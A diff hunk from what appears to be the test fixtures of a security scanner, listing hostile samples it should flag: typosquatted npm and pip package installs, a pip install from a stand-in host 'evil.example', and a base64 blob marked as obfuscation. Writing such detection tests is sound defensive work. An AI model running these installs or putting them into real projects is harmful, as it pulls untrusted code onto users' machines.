@@ -246,7 +246,7 @@ HOSTILE: dict[str, tuple[Files, Rule]] = {
     "md: npm install": (md("```bash\nnpm install -g lodahs\n```"), R.SCAN_TYPOSQUAT),
     "py: pip in Python": (
         py("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'colorarna'])\n"), R.SCAN_TYPOSQUAT),
-    "sh: another index": (sh("pip install --extra-index-url http://evil.example/simple tool"), R.SCAN_PACKAGE_SOURCE),
+    "sh: another index": (sh("pip install -i http://evil.example/packages tool"), R.SCAN_PACKAGE_SOURCE),
     # Others.
     "py: a blob": (
         py(f"DATA = '{base64.b64encode(bytes(range(256)) * 2).decode()}'\n"), R.SCAN_OBFUSCATION),
